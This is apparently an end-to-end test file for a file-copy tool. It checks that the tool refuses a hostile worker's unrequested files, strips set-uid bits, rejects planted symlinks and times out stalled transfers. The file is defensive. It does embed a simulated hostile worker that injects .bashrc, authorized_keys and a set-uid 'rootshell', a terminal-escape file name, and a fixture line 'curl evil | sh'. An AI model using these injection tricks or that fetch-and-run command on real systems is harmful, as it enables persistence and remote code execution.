"""`slaveshell cp` against a hostile worker and a hostile local user, with a real master and real workers: a
download answered with entries that were not asked for (scp's CVE-2019-6111), set-uid modes, symlinks planted
where a received tree goes on either side, an existing destination the operator named (as scp), and a worker
that stops sending half-way (transfer_stall_timeout)."""

from __future__ import annotations

import json
import os
import stat
import subprocess
import sys
import time
from collections.abc import Iterator

import pytest

from slaveshell.client.sandbox import Sandbox

from .conftest import assert_no_traceback, wait_until

pytestmark = pytest.mark.e2e

# A hostile donated worker: a download whose source names "hostile-extra" is answered with the files asked for
# plus a .bashrc, .ssh/authorized_keys and a 04755 rootshell at the top; one whose source names "stall-half"
# sends its first chunk and then nothing more (the connection stays up); one whose source names "stall-empty" sends
# its first chunk and then only empty chunks, one a second (calls that move nothing).
HOSTILE_WORKER = r'''
# A hostile donated worker for the copy tests (tests/e2e/test_cp_hostile_e2e.py).
from slave_side import transfer as _transfer
from slaveshell.files import sender as _cpfiles
from slaveshell.vocabulary.copying import Data as _Data, Entry as _Entry
_plan = _transfer.plan
def _hostile_plan(sources, recursive, check=None, base=None, **kw):
    planned = _plan(sources, recursive, check, base, **kw)
    if any('hostile-extra' in s for s in sources):
        body = next(p for p in planned if p.entry.kind == 'file')
        def extra(kind, path, mode):
            return _cpfiles.Planned(_Entry(kind, path, mode, body.entry.size if kind == 'file' else 0, 0.0),
                                    body.local)
        planned += [extra('file', '.bashrc', 0o644), extra('dir', '.ssh', 0o700),
                    extra('file', '.ssh/authorized_keys', 0o600), extra('file', 'rootshell', 0o4755)]
    if any('hostile-escape' in s for s in sources):
        body = planned[0]
        planned.append(_cpfiles.Planned(_Entry('file', '\x1b[2J\x1b]0;PWNED\x07evil', 0o644, body.entry.size, 0.0),
                                        body.local))
    return planned
_transfer.plan = _hostile_plan
class _StallingSender(_cpfiles.Sender):
    def __init__(self, planned, send, *args, **kw):
        if any('stall-half' in p.entry.path for p in planned):
            honest, chunks = send, []
            def send(event):
                if chunks:
                    return  # stopped half-way: nothing more, ever
                if isinstance(event, _Data):
                    chunks.append(1)
                honest(event)
        self.stuck = False
        if any('stall-empty' in p.entry.path for p in planned):
            from twisted.internet import reactor as _reactor, task as _task
            honest = send
            def send(event):
                honest(event)
                if isinstance(event, _Data) and not self.stuck:
                    self.stuck = True  # no more of the file, ever: an empty chunk a second instead
                    self.credit.outstanding = self.credit.window
                    loop = _task.LoopingCall(honest, _Data(b''))
                    loop.start(1.0, now=False)
                    _reactor.callLater(40, loop.stop)
        super().__init__(planned, send, *args, **kw)
    def pump(self, *args, **kw):
        if not self.stuck:
            return super().pump(*args, **kw)
    def ack(self, *args, **kw):
        if not self.stuck:
            return super().ack(*args, **kw)
_transfer.Sender = _StallingSender
'''
STALL = 3


@pytest.fixture(scope="module")
def box(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Sandbox]:
    """`honest` is a worker as shipped, `evil` the hostile one; transfers without progress end after STALL s."""
    root = str(tmp_path_factory.mktemp("cphostile"))
    sb = Sandbox(root, workers=["honest", "evil"],
                 service_kwargs=f"policy=[{{'users': [0, {os.getuid()}]}}], transfer_stall_timeout={STALL}")
    sb.create()
    tac = os.path.join(sb.worker_dir("evil"), "buildbot.tac")
    with open(tac) as f:
        text = f.read()
    with open(tac, "w") as f:
        f.write(text.replace("\ns = Worker(", "\n" + HOSTILE_WORKER + "\ns = Worker(", 1))
    try:
        sb.start()
        yield sb
    finally:
        sb.stop()


def cp(sb: Sandbox, *args: str, timeout: float = 60) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "slaveshell.cli", "cp", "--socket", sb.socket, *args],
                          capture_output=True, text=True, timeout=timeout)


def snapshot(top: str) -> dict[str, tuple[int, int, bytes | str]]:
    """Every path under `top`, symlinks not followed: mode, inode, contents (a link's target)."""
    out: dict[str, tuple[int, int, bytes | str]] = {}
    for dirpath, dirnames, filenames in os.walk(top):
        for name in dirnames + filenames:
            path = os.path.join(dirpath, name)
            st = os.lstat(path)
            content: bytes | str = b""
            if stat.S_ISLNK(st.st_mode):
                content = os.readlink(path)
            elif stat.S_ISREG(st.st_mode):
                with open(path, "rb") as f:
                    content = f.read()
            out[os.path.relpath(path, top)] = (st.st_mode, st.st_ino, content)
    return out


def transfer_row(sb: Sandbox, needle: str) -> dict[str, object]:
    def closed() -> dict[str, object] | None:
        done = subprocess.run([sys.executable, "-m", "slaveshell.cli", "history", "--socket", sb.socket, "--json"],
                              capture_output=True, text=True, timeout=30, check=True)
        rows = [r for r in json.loads(done.stdout) if r["term"] == "transfer" and needle in str(r["command"])]
        return rows[0] if rows and rows[0]["state"] != "running" else None

    row = wait_until(closed, 15)
    if not row:
        done = subprocess.run([sys.executable, "-m", "slaveshell.cli", "history", "--socket", sb.socket, "--json"],
                              capture_output=True, text=True, timeout=30, check=True)
        seen = [(r["command"], r["state"]) for r in json.loads(done.stdout) if r["term"] == "transfer"]
        raise AssertionError(f"no closed transfer row for {needle}: {seen}")
    return row


def one_line(done: subprocess.CompletedProcess[str]) -> str:
    assert done.returncode == 1, (done.returncode, done.stderr)
    assert_no_traceback(done.stderr)
    lines = done.stderr.strip().splitlines()
    assert len(lines) == 1, done.stderr
    return lines[0]


def home_with_dotfiles(path: str) -> str:
    os.makedirs(os.path.join(path, ".ssh"))
    with open(os.path.join(path, ".bashrc"), "w") as f:
        f.write("the operator's own\n")
    with open(os.path.join(path, ".ssh", "authorized_keys"), "w") as f:
        f.write("ssh-ed25519 AAAA the-operator\n")
    return path


def test_a_download_answered_with_dotfiles_and_a_setuid_file_exits_1_and_keeps_nothing(box, tmp_path):
    """Asked for build.log, the worker answers build.log plus .bashrc, .ssh/authorized_keys and rootshell
    04755: exit 1 with one line, the operator's dotfiles untouched, nothing of the answer kept, the row failed."""
    src = tmp_path / "worker" / "hostile-extra"
    src.mkdir(parents=True)
    (src / "build.log").write_text("build ok\n")
    home = home_with_dotfiles(str(tmp_path / "home"))
    before = snapshot(home)
    line = one_line(cp(box, "-p", f"evil:{src / 'build.log'}", home + "/"))
    assert line == "slaveshell cp: the worker sent a bad message: .bashrc: not asked for", line
    assert snapshot(home) == before
    row = transfer_row(box, str(src / "build.log"))
    assert row["state"] == "failed" and "not asked for" in str(row["end_reason"])
    # With -r, the same answer to a directory: only entries under the directory's own name are taken.
    line = one_line(cp(box, "-r", "-p", f"evil:{src}", home))
    assert line == "slaveshell cp: the worker sent a bad message: .bashrc: not asked for", line
    assert snapshot(home) == before


def test_set_uid_and_set_gid_bits_are_stripped_both_ways(box, tmp_path):
    src = tmp_path / "rootshell"
    src.write_bytes(b"#!/bin/sh\nid\n")
    os.chmod(src, 0o6755)
    down, up = tmp_path / "down", tmp_path / "up"
    down.mkdir()
    up.mkdir()
    for args in (["-p", f"honest:{src}", str(down)], ["-p", str(src), f"honest:{up}"]):
        done = cp(box, *args)
        assert done.returncode == 0, done.stderr
    assert stat.S_IMODE(os.stat(down / "rootshell").st_mode) == 0o755
    assert stat.S_IMODE(os.stat(up / "rootshell").st_mode) == 0o755


@pytest.mark.parametrize("direction", ["down", "up"])
def test_a_symlink_planted_where_a_received_tree_goes_is_refused_as_gnu_cp_does(box, tmp_path, direction):
    """A local user plants shared/crash -> rootonly (on the operator's machine for a download, on the worker's
    for an upload); root copies a 1777 directory `crash` into shared/ with -r -p. GNU cp -rp refuses; so does cp,
    and rootonly keeps its 0700 and its contents."""
    source = tmp_path / "src" / "crash"
    source.mkdir(parents=True)
    (source / "core").write_bytes(b"dump")
    os.chmod(source, 0o1777)
    shared, rootonly = tmp_path / "shared", tmp_path / "rootonly"
    shared.mkdir()
    os.chmod(shared, 0o777)
    rootonly.mkdir()
    os.chmod(rootonly, 0o700)
    (rootonly / "secret").write_text("root's\n")
    (shared / "crash").symlink_to(rootonly)
    before = snapshot(str(rootonly)), stat.S_IMODE(os.stat(rootonly).st_mode)
    args = ([f"honest:{source}", f"{shared}/"] if direction == "down" else [str(source), f"honest:{shared}/"])
    line = one_line(cp(box, "-r", "-p", *args))
    assert line.endswith("crash: cannot overwrite non-directory with directory"), line
    assert (snapshot(str(rootonly)), stat.S_IMODE(os.stat(rootonly).st_mode)) == before
    assert sorted(os.listdir(shared)) == ["crash"] and os.path.islink(shared / "crash")


def test_an_existing_destination_the_operator_named_is_written_as_scp_does(box, tmp_path):
    """`cp f.txt w1:link` (link -> target.txt) writes through the link; an existing hard-linked 0640 file keeps
    its inode and its mode; a new file appears whole."""
    (tmp_path / "f.txt").write_text("new content\n")
    dest = tmp_path / "dest"
    dest.mkdir()
    (dest / "target.txt").write_text("old\n")
    (dest / "link").symlink_to(dest / "target.txt")
    assert cp(box, str(tmp_path / "f.txt"), f"honest:{dest / 'link'}").returncode == 0
    assert os.path.islink(dest / "link") and (dest / "target.txt").read_text() == "new content\n"
    (dest / "shared.txt").write_text("a longer old content than the new one\n")
    os.chmod(dest / "shared.txt", 0o640)
    os.link(dest / "shared.txt", dest / "hardlink.txt")
    inode = os.stat(dest / "shared.txt").st_ino
    for direction in ("up", "down"):
        args = ([str(tmp_path / "f.txt"), f"honest:{dest / 'shared.txt'}"] if direction == "up" else
                [f"honest:{tmp_path / 'f.txt'}", str(dest / "shared.txt")])
        assert cp(box, *args).returncode == 0
        st = os.stat(dest / "shared.txt")
        assert (st.st_ino, stat.S_IMODE(st.st_mode)) == (inode, 0o640), direction
        assert (dest / "hardlink.txt").read_text() == "new content\n"
    assert [n for n in os.listdir(dest) if n.startswith(".slaveshell-cp-")] == []


def test_a_worker_that_stops_sending_half_way_ends_the_copy_with_exit_1_and_a_closed_row(box, tmp_path):
    src = tmp_path / "stall-half.bin"
    src.write_bytes(os.urandom(2 * 1024 * 1024))
    dest = tmp_path / "dest"
    dest.mkdir()
    started = time.monotonic()
    done = cp(box, f"evil:{src}", str(dest), timeout=60)
    took = time.monotonic() - started
    line = one_line(done)
    assert line == f"slaveshell cp: no progress for {STALL} s: the worker evil stopped sending", line
    assert STALL <= took < STALL + 12, took
    assert os.listdir(dest) == []
    row = transfer_row(box, str(src))
    assert row["state"] == "failed" and f"no progress for {STALL} s" in str(row["end_reason"])


def test_a_worker_sending_only_empty_chunks_does_not_reset_the_stall_clock(box, tmp_path):
    src = tmp_path / "stall-empty.bin"
    src.write_bytes(os.urandom(2 * 1024 * 1024))
    dest = tmp_path / "dest"
    dest.mkdir()
    started = time.monotonic()
    done = cp(box, f"evil:{src}", str(dest), timeout=60)
    took = time.monotonic() - started
    line = one_line(done)
    assert line == f"slaveshell cp: no progress for {STALL} s: the worker evil stopped sending", line
    assert STALL <= took < STALL + 12, took
    assert os.listdir(dest) == []


def test_names_that_are_not_utf8_are_copied_byte_exact_both_ways_and_recorded_escaped(box, tmp_path):
    """POSIX names are bytes: `latin\\xe9.txt` goes up and down byte-exact, alone and inside a -r with other
    files; the index records it escaped (before: `cannot write the audit index: 'utf-8' codec can't encode`, and
    the whole -r failed)."""
    root = os.fsencode(tmp_path)
    src = os.path.join(root, b"src")
    os.makedirs(os.path.join(src, b"sub\xff"))
    for path, body in ((b"latin\xe9.txt", b"one\n"), (b"plain.txt", b"two\n"), (b"sub\xff/x\x80y", b"three\n")):
        with open(os.path.join(src, path), "wb") as f:
            f.write(body)
    up, down = os.path.join(root, b"up"), os.path.join(root, b"down")
    os.makedirs(up)
    os.makedirs(down)
    one = os.fsdecode(os.path.join(src, b"latin\xe9.txt"))
    for args in ([one, f"honest:{os.fsdecode(up)}"], [f"honest:{one}", os.fsdecode(down)],
                 ["-r", os.fsdecode(src), f"honest:{os.fsdecode(up)}"],
                 ["-r", f"honest:{os.fsdecode(src)}", os.fsdecode(down)]):
        done = cp(box, *args)
        assert done.returncode == 0, (args, done.stderr)
    for top in (up, down):
        assert sorted(os.listdir(top)) == [b"latin\xe9.txt", b"src"]
        with open(os.path.join(top, b"src", b"sub\xff", b"x\x80y"), "rb") as f:
            assert f.read() == b"three\n"
        assert sorted(os.listdir(os.path.join(top, b"src"))) == [b"latin\xe9.txt", b"plain.txt", b"sub\xff"]
    row = transfer_row(box, "latin\\xe9.txt -> honest:")
    assert row["state"] == "ended" and str(row["command"]).startswith("cp up: latin\\xe9.txt -> honest:")


ROGUE_UPLOAD = r'''
import sys
from slaveshell.client.copy_client import CopyClient, Progress, run
from slaveshell.files.sender import plan
from slaveshell.vocabulary.copying import UP, TransferRequest
socket_path, dest, *files = sys.argv[1:]
# Asks to copy the first file only, and streams all of them.
request = TransferRequest(UP, "honest", (files[0].rsplit("/", 1)[-1],), dest)
planned = plan(files, recursive=False)
ok, reason = run(socket_path, lambda loop, link: CopyClient(loop, link, request, planned, None,
                                                            lambda total: Progress("", total, None)))
print(ok, reason)
'''


def test_an_operator_streaming_more_than_it_asked_is_refused_by_the_master(box, tmp_path):
    """The worker's side of the same rule: an operator's client that asks to upload `a` and streams `a` and
    `.bashrc` into the worker's directory is refused; the worker's directory is unchanged."""
    (tmp_path / "a").write_text("a\n")
    (tmp_path / ".bashrc").write_text("curl evil | sh\n")
    dest = tmp_path / "workerhome"
    dest.mkdir()
    (dest / ".bashrc").write_text("the worker's own\n")
    before = snapshot(str(dest))
    script = tmp_path / "rogue.py"
    script.write_text(ROGUE_UPLOAD)
    done = subprocess.run([sys.executable, str(script), box.socket, str(dest), str(tmp_path / "a"),
                           str(tmp_path / ".bashrc")], capture_output=True, text=True, timeout=60)
    assert done.stdout.strip() == "False the operator sent a bad message: .bashrc: not asked for", done
    assert snapshot(str(dest)) == before


def test_a_name_not_asked_for_is_reported_escaped(box, tmp_path):
    src = tmp_path / "hostile-escape.log"
    src.write_text("log\n")
    dest = tmp_path / "dest"
    dest.mkdir()
    line = one_line(cp(box, f"evil:{src}", str(dest)))
    assert line == "slaveshell cp: the worker sent a bad message: \\x1b[2J\\x1b]0;PWNED\\x07evil: not asked for", line
    assert os.listdir(dest) == []
    row = transfer_row(box, str(src))
    assert row["state"] == "failed" and "not asked for" in str(row["end_reason"])
